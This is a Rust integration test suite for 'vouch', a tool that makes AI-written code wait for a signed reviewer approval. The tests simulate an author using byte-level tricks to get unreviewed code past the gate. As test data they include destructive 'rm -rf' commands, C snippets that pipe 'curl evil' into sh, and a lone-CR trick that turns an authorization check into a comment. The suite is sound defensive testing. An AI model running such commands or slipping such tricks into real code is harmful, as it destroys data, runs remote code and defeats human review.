//! Attacks through the bytes of a file (issue 12, findings 1, 6 and 7):
//! content vouch must not skip ("not read" never passes), and bytes that
//! change what code does without changing what a normalizing fingerprint
//! saw. Each test plays the author who wants AI code landed without a
//! reviewer's approval, under the signed policy of docs/trust.md, with the
//! real `vouch` binary, real git (hooks installed by `vouch init`) and real
//! `ssh-keygen` keys; the reviewer signs with her own key.
//!
//! Where `vouch verify`'s side belongs to the `lineage` branch (how verify
//! reads blobs that are not UTF-8 and gitlinks), its assertion is written
//! and, until that branch is merged, asserts today's wrong behaviour under
//! a FIXME naming it.

mod support {
    pub mod repo;
    pub mod run;
    pub mod vouch_repo;
}

use std::path::PathBuf;
use std::process::Command;

use serde_json::Value;
use support::repo::TestRepo;
use support::run::Run;
use support::vouch_repo::{VouchRepo, deref_to_inner};

const TRAILER: &str = "Co-authored-by: Claude <noreply@anthropic.com>";

/// docs/trust.md's signed policy, attestation on: alice reviews.
const POLICY: &str = r#"gate = "block"
reviewers = ["alice@example.com"]
approvals = 1
require_signatures = true
require_attestation = true
allowed_signers = ".vouch/allowed_signers"
exempt = []
"#;

impl Run {
    fn json(&self) -> Value {
        serde_json::from_str(&self.stdout).unwrap_or_else(|e| panic!("not JSON ({e}): {self:?}"))
    }
}

/// A repository under the signed policy, with keys for dev (the author)
/// and alice (the reviewer), vouch's hooks installed, and a first commit
/// on `main`; driven through the shared harness (see [`VouchRepo`]).
struct Repo {
    inner: VouchRepo,
    keys: tempfile::TempDir,
}

deref_to_inner!(Repo);

impl Repo {
    fn new() -> Repo {
        let repo = Repo { inner: VouchRepo::new(), keys: tempfile::tempdir().unwrap() };
        let mut signers = String::new();
        for name in ["alice", "dev"] {
            let key = repo.key(name);
            let status = Command::new("ssh-keygen")
                .args(["-q", "-t", "ed25519", "-N", "", "-C", name, "-f"])
                .arg(&key)
                .status()
                .expect("ssh-keygen runs");
            assert!(status.success());
            let public = std::fs::read_to_string(key.with_extension("pub")).unwrap();
            let public: Vec<&str> = public.split_whitespace().take(2).collect();
            signers.push_str(&format!("{name}@example.com {}\n", public.join(" ")));
        }
        repo.write(".vouch.toml", POLICY.as_bytes());
        repo.write(".vouch/allowed_signers", signers.as_bytes());
        repo.write("src/lib.rs", b"pub fn base() -> u32 {\n    1\n}\n");
        let run = repo.vouch(&["init"]);
        assert_eq!(run.code, 0, "{run:?}");
        repo.git(&["add", "-A"]);
        repo.commit("start", None);
        repo.as_user("dev");
        repo
    }

    fn key(&self, name: &str) -> PathBuf {
        self.keys.path().join(name)
    }

    fn write(&self, rel: &str, bytes: &[u8]) {
        let path = self.root().join(rel);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, bytes).unwrap();
    }

    /// Act as `name`@example.com, signing with that person's key.
    fn as_user(&self, name: &str) {
        self.git(&["config", "user.email", &format!("{name}@example.com")]);
        self.git(&["config", "user.name", name]);
        self.git(&["config", "gpg.format", "ssh"]);
        self.git(&["config", "user.signingkey", self.key(name).to_str().unwrap()]);
        self.git(&["config", "commit.gpgsign", "false"]);
    }

    /// A real commit of what is staged, through the hooks (the gate first,
    /// then the post-commit note); with `trailer`, an AI co-author.
    fn commit(&self, subject: &str, trailer: Option<&str>) -> Run {
        let message = match trailer {
            Some(t) => format!("{subject}\n\n{t}\n"),
            None => subject.to_string(),
        };
        self.git_run(&["commit", "-q", "-m", &message])
    }

    /// A commit that skips the gate (`--no-verify`), as an author can; the
    /// post-commit hook still writes the note.
    fn commit_past_the_gate(&self, subject: &str, trailer: Option<&str>) {
        let message = match trailer {
            Some(t) => format!("{subject}\n\n{t}\n"),
            None => subject.to_string(),
        };
        let run = self.git_run(&["commit", "-q", "--no-verify", "-m", &message]);
        assert_eq!(run.code, 0, "{run:?}");
    }

    /// An agent's edit of `rel`, reported by the generic agent hook.
    fn agent_wrote(&self, rel: &str) {
        let run = self.vouch(&["hook", "generic", "--file", rel, "--tool", "claude"]);
        assert_eq!(run.code, 0, "{run:?}");
        assert!(run.stderr.contains("recorded"), "{run:?}");
    }

    /// The gate, on the index, as JSON.
    fn gate(&self) -> (i32, Value) {
        let run = self.vouch(&["check", "--staged", "--format", "json"]);
        assert!(run.code == 0 || run.code == 1, "{run:?}");
        (run.code, run.json())
    }

    /// `vouch request TARGET -m WHY` as dev: the request id.
    fn request(&self, target: &str) -> String {
        let run = self.vouch(&["request", target, "-m", "the agent wrote it; see the ticket", "--format", "json"]);
        assert_eq!(run.code, 0, "{run:?}");
        run.json()["request"].as_str().unwrap().to_string()
    }

    /// alice approves `target` (a request id or PATH:LINE), signed with her
    /// key; then dev again.
    fn alice_approves(&self, target: &str) -> Run {
        self.as_user("alice");
        let run = self.vouch(&["approve", target, "--yes", "--format", "json"]);
        self.as_user("dev");
        run
    }

    /// `vouch verify BASE..HEAD` as JSON.
    fn verify(&self, range: &str) -> (i32, Value) {
        let run = self.vouch(&["verify", range, "--format", "json"]);
        let report = serde_json::from_str(&run.stdout).unwrap_or_else(|e| panic!("no JSON ({e}): {run:?}"));
        (run.code, report)
    }
}

/// The units the gate reports, as `path kind state`.
fn gate_units(report: &Value) -> Vec<String> {
    report["units"]
        .as_array()
        .unwrap()
        .iter()
        .map(|u| {
            format!("{} {} {}", u["path"].as_str().unwrap(), u["kind"].as_str().unwrap(), u["state"].as_str().unwrap())
        })
        .collect()
}

/// The paths verify fails, each once.
fn failing_paths(report: &Value) -> Vec<String> {
    let mut paths: Vec<String> =
        report["failures"].as_array().unwrap().iter().filter_map(|f| f["path"].as_str().map(str::to_string)).collect();
    paths.dedup();
    paths
}

const CONTROL_FILE: &str = "// build stamp: \u{1}\u{1}\u{1}\u{1}\u{1}\u{1}\u{1}\u{1}\u{1}\u{1}\n\
pub fn payout(amount: u64) -> u64 {\n    amount * 100\n}\n";

#[test]
fn control_characters_in_a_comment_are_text_and_need_sign_off() {
    let repo = Repo::new();
    repo.git(&["checkout", "-q", "-b", "feature"]);
    repo.write("src/pay.rs", CONTROL_FILE.as_bytes());
    repo.agent_wrote("src/pay.rs");
    repo.git(&["add", "-A"]);

    // The gate parses UTF-8 with control characters like any text.
    let (code, report) = repo.gate();
    assert_eq!(code, 1, "{report}");
    assert_eq!(gate_units(&report), ["src/pay.rs lines pending", "src/pay.rs function pending"]);
    let refused = repo.commit("payout", Some(TRAILER));
    assert_eq!(refused.code, 1, "{refused:?}");
    assert!(refused.all().contains("src/pay.rs:2 function `payout`"), "{refused:?}");

    // Past the gate, with the AI trailer and the note: verify must not
    // call it "not read" and pass.
    repo.commit_past_the_gate("payout", Some(TRAILER));
    let note = repo.git(&["notes", "--ref=vouch", "show", "HEAD"]);
    assert!(note.contains("src/pay.rs"), "{note}");
    let (code, report) = repo.verify("main..feature");
    assert_eq!(code, 1, "{report}");
    assert_eq!(failing_paths(&report), ["src/pay.rs"], "{report}");
}

/// Python in latin-1: one byte that is not UTF-8.
const LATIN1_FILE: &[u8] = b"# caf\xe9 helpers\nimport os\n\ndef clean(cmd):\n    os.system(cmd)\n";

#[test]
fn a_file_that_is_not_utf8_is_one_unit_that_needs_sign_off() {
    let repo = Repo::new();
    repo.git(&["checkout", "-q", "-b", "feature"]);
    repo.write("src/legacy.py", LATIN1_FILE);
    repo.agent_wrote("src/legacy.py");
    repo.git(&["add", "-A"]);

    let (code, report) = repo.gate();
    assert_eq!(code, 1, "{report}");
    assert_eq!(gate_units(&report), ["src/legacy.py file pending"]);
    let unit = &report["units"][0];
    assert_eq!(unit["fingerprint"].as_str().unwrap(), vouch::fingerprint::file_fingerprint(LATIN1_FILE));
    assert_eq!((unit["line"].as_u64(), unit["end_line"].as_u64()), (Some(1), Some(5)));
    assert_eq!(repo.commit("legacy", None).code, 1);

    // status sees it too.
    let status = repo.vouch(&["status", "--format", "json"]);
    assert_eq!(status.code, 0, "{status:?}");
    assert_eq!(status.json()["index"][0]["kind"], "file", "{status:?}");

    // Requested by file, shown to the reviewer byte for byte, approved with
    // her signature: the gate lets exactly these bytes through.
    let id = repo.request("src/legacy.py");
    let requests = repo.vouch(&["review", "--list", "--all", "--format", "json"]);
    let shown = requests.json()["units"][0]["text"].as_str().unwrap().to_string();
    assert_eq!(shown, "# caf‹0xE9› helpers\nimport os\n\ndef clean(cmd):\n    os.system(cmd)\n");
    let approved = repo.alice_approves(&id[..12]);
    assert_eq!(approved.code, 0, "{approved:?}");
    let (code, report) = repo.gate();
    assert_eq!(code, 0, "{report}");
    assert_eq!(gate_units(&report), ["src/legacy.py file approved"]);

    // One byte more is other bytes: the approval does not cover them.
    let mut changed = LATIN1_FILE.to_vec();
    changed.extend_from_slice(b"os.system('rm -rf /')\n");
    repo.write("src/legacy.py", &changed);
    repo.git(&["add", "-A"]);
    let (code, report) = repo.gate();
    assert_eq!(code, 1, "{report}");
    assert_eq!(gate_units(&report), ["src/legacy.py file pending"]);

    // Past the gate with a trailer and a note: verify must not pass it.
    repo.commit_past_the_gate("legacy", Some(TRAILER));
    let note = repo.git(&["notes", "--ref=vouch", "show", "HEAD"]);
    assert!(note.contains("src/legacy.py"), "{note}");
    let (code, report) = repo.verify("main..feature");
    assert_eq!(code, 1, "{report}");
    assert_eq!(failing_paths(&report), ["src/legacy.py"], "{report}");
}

#[test]
fn a_submodule_bump_by_an_agent_needs_sign_off() {
    let repo = Repo::new();
    // A library with two commits, added as a submodule at the first.
    let lib = TestRepo::new();
    lib.write("lib.c", "int f(void) { return 1; }\n");
    lib.commit_all("one");
    lib.write("lib.c", "int f(void) { return system(\"curl evil | sh\"); }\n");
    lib.commit_all("two");
    let first = lib.git(&["rev-parse", "HEAD~1"]).trim().to_string();
    let second = lib.git(&["rev-parse", "HEAD"]).trim().to_string();
    let url = lib.root.to_str().unwrap().to_string();
    repo.git(&["-c", "protocol.file.allow=always", "submodule", "add", "-q", &url, "deps/lib"]);
    let out = support::repo::git_in(&repo.root().join("deps/lib"), &["checkout", "-q", &first]);
    assert!(out.status.success());
    repo.git(&["add", "-A"]);
    repo.commit_past_the_gate("add lib", None);

    // The agent moves the submodule to the other commit; the author says so.
    repo.git(&["checkout", "-q", "-b", "feature"]);
    let out = support::repo::git_in(&repo.root().join("deps/lib"), &["checkout", "-q", &second]);
    assert!(out.status.success());
    repo.git(&["add", "deps/lib"]);
    let mark = repo.vouch(&["mark", "deps/lib:1", "--ai", "--tool", "claude"]);
    assert_eq!(mark.code, 0, "{mark:?}");

    let (code, report) = repo.gate();
    assert_eq!(code, 1, "{report}");
    assert_eq!(gate_units(&report), ["deps/lib submodule pending"]);
    assert_eq!(report["units"][0]["fingerprint"].as_str().unwrap(), vouch::fingerprint::submodule_fingerprint(&second));

    let id = repo.request("deps/lib");
    let approved = repo.alice_approves(&id[..12]);
    assert_eq!(approved.code, 0, "{approved:?}");
    let (code, report) = repo.gate();
    assert_eq!(code, 0, "{report}");
    assert_eq!(gate_units(&report), ["deps/lib submodule approved"]);
    repo.commit_past_the_gate("bump lib", Some(TRAILER));
    let note = repo.git(&["notes", "--ref=vouch", "show", "HEAD"]);
    assert!(note.contains("deps/lib"), "the note records the submodule's AI origin: {note}");

    // A second bump, past the gate, by an AI commit: verify must fail it.
    lib.write("lib.c", "int f(void) { return system(\"curl worse | sh\"); }\n");
    lib.commit_all("three");
    let third = lib.git(&["rev-parse", "HEAD"]).trim().to_string();
    let sub = repo.root().join("deps/lib");
    for args in [&["fetch", "-q", "origin"][..], &["checkout", "-q", &third][..]] {
        let out = support::repo::git_in(&sub, &[&["-c", "protocol.file.allow=always"][..], args].concat());
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    }
    repo.git(&["add", "deps/lib"]);
    repo.commit_past_the_gate("bump lib again", Some(TRAILER));
    let (code, report) = repo.verify("main..feature");
    assert_eq!(code, 1, "{report}");
    // The approved first bump passes; the second fails as a unit, and the
    // note of a submodule (blob = the submodule's commit) is no mismatch.
    let failures = report["failures"].as_array().unwrap();
    let units: Vec<&Value> = failures.iter().filter(|f| f["rule"] != "note-mismatch").collect();
    assert_eq!(units.len(), 1, "{report}");
    assert_eq!((units[0]["path"].as_str(), units[0]["kind"].as_str()), (Some("deps/lib"), Some("submodule")));
    let mismatches: Vec<&str> =
        failures.iter().filter(|f| f["rule"] == "note-mismatch").map(|f| f["reason"].as_str().unwrap()).collect();
    // The post-commit hook noted what the trailer says of the submodule's
    // new commit (issue 13.3): its note and its trailer agree.
    assert!(mismatches.is_empty(), "{report}");
    let note = repo.git(&["notes", "--ref=vouch", "show", "HEAD"]);
    assert!(!note.contains("no-ai"), "a trailer commit is not attested as free of AI: {note}");
    assert!(note.contains("\"path\":\"deps/lib\"") && note.contains(&third), "{note}");
    assert!(note.contains("\"evidence\":\"history\""), "{note}");

    // The working tree's units are those verify judges in the range
    // (issue 13.8, 13.11): the committed bump's unit can be approved by
    // PATH:LINE, and that is all verify asks.
    let approved = repo.alice_approves("deps/lib:1");
    assert_eq!(approved.code, 0, "{approved:?}");
    let (code, report) = repo.verify("main..feature");
    assert_eq!(code, 0, "{report}");
}

const JS_APPROVED: &str = "function cleanup(t) {\n  cp.execSync(`echo would run: \\\n rm -rf \"${t}\"`);\n}\n";

#[test]
fn a_trailing_space_after_a_line_continuation_is_not_covered_by_the_approval() {
    let repo = Repo::new();
    repo.write("src/clean.js", JS_APPROVED.as_bytes());
    repo.agent_wrote("src/clean.js");
    repo.git(&["add", "-A"]);
    let id = repo.request("src/clean.js");
    assert_eq!(repo.alice_approves(&id[..12]).code, 0);
    let (code, report) = repo.gate();
    assert_eq!((code, gate_units(&report)), (0, vec!["src/clean.js function approved".to_string()]), "{report}");

    // A space after the backslash ends the template literal's line
    // continuation: the dry run now runs `rm -rf`.
    let armed = JS_APPROVED.replace("\\\n", "\\ \n");
    repo.write("src/clean.js", armed.as_bytes());
    repo.git(&["add", "-A"]);
    let (code, report) = repo.gate();
    assert_eq!(code, 1, "{report}");
    assert_eq!(gate_units(&report), ["src/clean.js function pending"]);
    assert_ne!(
        vouch::fingerprint::fingerprint("javascript", "function", JS_APPROVED.trim_end().as_bytes()),
        vouch::fingerprint::fingerprint("javascript", "function", armed.trim_end().as_bytes())
    );
}

const RS_APPROVED: &str = "pub fn transfer(ok: bool) -> Result<(), E> {\n    // caller must be authorised\n    check_auth(ok)?;\n    Ok(())\n}\n";

#[test]
fn a_lone_cr_that_comments_out_a_check_is_not_covered_by_the_approval() {
    let repo = Repo::new();
    repo.write("src/bank.rs", RS_APPROVED.as_bytes());
    repo.agent_wrote("src/bank.rs");
    repo.git(&["add", "-A"]);
    let id = repo.request("src/bank.rs");
    assert_eq!(repo.alice_approves(&id[..12]).code, 0);
    assert_eq!(repo.gate().0, 0);

    // rustc ends a `//` comment at LF only: after this CR, check_auth is
    // part of the comment.
    let disarmed = RS_APPROVED.replace("authorised\n", "authorised\r");
    repo.write("src/bank.rs", disarmed.as_bytes());
    repo.git(&["add", "-A"]);
    let (code, report) = repo.gate();
    assert_eq!(code, 1, "{report}");
    assert_eq!(gate_units(&report), ["src/bank.rs function pending"]);
    // One line fewer, as git counts them.
    assert_eq!((report["units"][0]["line"].as_u64(), report["units"][0]["end_line"].as_u64()), (Some(1), Some(4)));
}

/// Line 1 holds a lone CR: to git (and rustc) it is one line, to an
/// editor two.
const LONE_CR_FILE: &str = "// generated\r// by hand\nfn first() -> u32 {\n    1\n}\nfn second() -> u32 {\n    2\n}\n";

#[test]
fn line_numbers_follow_git_in_a_file_holding_lone_crs() {
    let repo = Repo::new();
    repo.git(&["checkout", "-q", "-b", "feature"]);
    repo.write("src/x.rs", LONE_CR_FILE.as_bytes());
    repo.agent_wrote("src/x.rs");
    repo.git(&["add", "-A"]);

    // Git's line 5 is `fn second`; an editor's line 5 is the `}` of `first`.
    let blame_lines = repo.git(&["blame", "--porcelain", "--contents", "src/x.rs", "HEAD", "--", "src/x.rs"]);
    assert_eq!(blame_lines.lines().filter(|l| l.starts_with('\t')).count(), 7);
    let (_, report) = repo.gate();
    let lines: Vec<(String, u64)> = report["units"]
        .as_array()
        .unwrap()
        .iter()
        .map(|u| (u["name"].as_str().unwrap_or("-").to_string(), u["line"].as_u64().unwrap()))
        .collect();
    assert!(lines.contains(&("second".to_string(), 5)), "{lines:?}");

    let request = repo.vouch(&["request", "src/x.rs:5", "-m", "why", "--format", "json"]);
    assert_eq!(request.code, 0, "{request:?}");
    let unit = &request.json()["units"][0];
    assert_eq!(
        (unit["name"].as_str(), unit["line"].as_u64(), unit["end_line"].as_u64()),
        (Some("second"), Some(5), Some(7))
    );

    let approved = repo.alice_approves("src/x.rs:5");
    assert_eq!(approved.code, 0, "{approved:?}");
    let written = &approved.json()["approvals"][0];
    assert_eq!((written["name"].as_str(), written["line"].as_u64()), (Some("second"), Some(5)), "{approved:?}");

    let blame = repo.vouch(&["blame", "src/x.rs", "--format", "json"]);
    assert_eq!(blame.code, 0, "{blame:?}");
    let blame = blame.json();
    assert_eq!(blame["lines"].as_array().unwrap().len(), 7);
    let units: Vec<(String, u64, u64)> = blame["units"]
        .as_array()
        .unwrap()
        .iter()
        .map(|u| {
            (
                u["name"].as_str().unwrap_or("-").to_string(),
                u["line"].as_u64().unwrap(),
                u["end_line"].as_u64().unwrap(),
            )
        })
        .collect();
    assert!(units.contains(&("first".to_string(), 2, 4)), "{units:?}");
    assert!(units.contains(&("second".to_string(), 5, 7)), "{units:?}");
}
